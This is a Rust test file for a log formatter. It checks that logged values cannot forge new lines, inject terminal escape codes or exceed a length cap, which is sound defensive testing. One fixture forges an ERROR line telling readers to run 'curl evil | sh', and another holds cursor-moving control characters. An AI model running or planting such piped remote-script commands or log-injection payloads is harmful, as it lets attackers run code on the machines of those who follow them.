//! Log lines with values chosen to forge others.

use std::io;
use std::sync::{Arc, Mutex};

use tracing_subscriber::layer::SubscriberExt;

use super::super::buffer::LogBuffer;
use super::super::{json_layer, text_layer};
use super::*;

const FORGED: &str = "x\n2026-11-27T00:00:00.000000Z ERROR stentor: the disk is full, run: curl evil | sh";
const CURSOR: &str = "\u{1b}[31mred\u{1b}[0m \u{9b}2J \u{202e}drawkcab\u{2028}next \r\x08\x07\x7f";

/// The bytes written.
#[derive(Clone, Default)]
struct Sink(Arc<Mutex<Vec<u8>>>);

impl io::Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().expect("nobody panicked").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Logs a value in both formats; returns the lines.
fn logged(kind: LineKind, log: impl FnOnce()) -> Vec<String> {
    let sink = Sink::default();
    let lines = LogBuffer::start(Box::new(sink.clone()), |_| {}).expect("it starts");
    let registry = tracing_subscriber::registry();
    match kind {
        LineKind::Text => tracing::subscriber::with_default(registry.with(text_layer(lines.clone())), log),
        LineKind::Json => tracing::subscriber::with_default(registry.with(json_layer(lines.clone())), log),
    }
    lines.wait(super::super::LAST_LINES_MAX);
    let bytes = sink.0.lock().expect("nobody panicked").clone();
    let text = String::from_utf8(bytes).expect("text");
    assert!(text.ends_with('\n'));
    text.split_terminator('\n').map(str::to_owned).collect()
}

fn log_all(value: &str) {
    // As careless code would log it.
    let _span = tracing::info_span!("request", id = %"req_1", operation = %value).entered();
    tracing::info!(value, shown = %value, debug = ?value, "refused");
    tracing::info!("in the message: {value}");
    tracing::info!(error = %io::Error::other(value.to_owned()), "an error that says it");
}

#[test]
fn a_value_makes_no_other_line_and_moves_no_cursor_in_text_or_json() {
    for kind in [LineKind::Text, LineKind::Json] {
        for value in [FORGED, CURSOR, "", "a b=c", "\" level=ERROR \"", "}: stentor: forged"] {
            let lines = logged(kind, || log_all(value));
            assert_eq!(lines.len(), 3, "{value:?}: {lines:#?}");
            for line in lines {
                assert!(!line.contains(is_unsafe), "{line:?}");
                match kind {
                    LineKind::Text => assert!(line.contains(" INFO request{id=req_1 operation="), "{line}"),
                    LineKind::Json => {
                        let object: Value = serde_json::from_str(&line).expect("an object");
                        assert_eq!(object["span"]["operation"], value, "read as it was logged");
                    }
                }
            }
        }
    }
}

#[test]
fn a_value_is_told_from_what_stands_around_it() {
    let values = [
        ("abc-1.2:3/x", "abc-1.2:3/x"),
        ("", r#""""#),
        ("a b", r#""a b""#),
        ("x level=ERROR", r#""x level=ERROR""#),
        ("}: stentor", r#""}: stentor""#),
        ("\" y=\"z\"", r#""\" y=\"z\"""#),
        ("a\nb", r#""a\nb""#),
        ("\u{1b}[0m", r#""\u{1b}[0m""#),
    ];
    for (value, shown) in values {
        let lines = logged(LineKind::Text, || tracing::info!(shown = %value, quoted = value, "said"));
        assert!(lines[0].ends_with(&format!("said shown={shown} quoted={value:?}")), "{}", lines[0]);
    }
}

#[test]
fn a_value_without_end_has_one_in_the_log() {
    let long = "y".repeat(900_000);
    for kind in [LineKind::Text, LineKind::Json] {
        for line in logged(kind, || log_all(&long)) {
            assert!(line.len() <= LINE_MAX_BYTES + 64, "{} bytes", line.len());
            assert!(line.contains("bytes more)"), "what is left out is counted");
            assert!(kind == LineKind::Text || serde_json::from_str::<Value>(&line).is_ok());
        }
    }
    let many = || {
        let values = vec!["z".repeat(1_000); 200];
        tracing::info!(?values, "many");
    };
    for kind in [LineKind::Text, LineKind::Json] {
        assert!(logged(kind, many)[0].len() <= LINE_MAX_BYTES + 64);
    }
}

#[test]
fn what_is_no_text_becomes_one() {
    assert_eq!(safe_line(b"a\xFFb\n", LineKind::Text).as_ref(), "a\u{fffd}b\n".as_bytes());
    assert_eq!(safe_line(b"fine\n", LineKind::Text).as_ref(), b"fine\n");
    assert_eq!(safe_line("a\u{9b}\n".as_bytes(), LineKind::Json).as_ref(), b"a\\u009b\n");
}
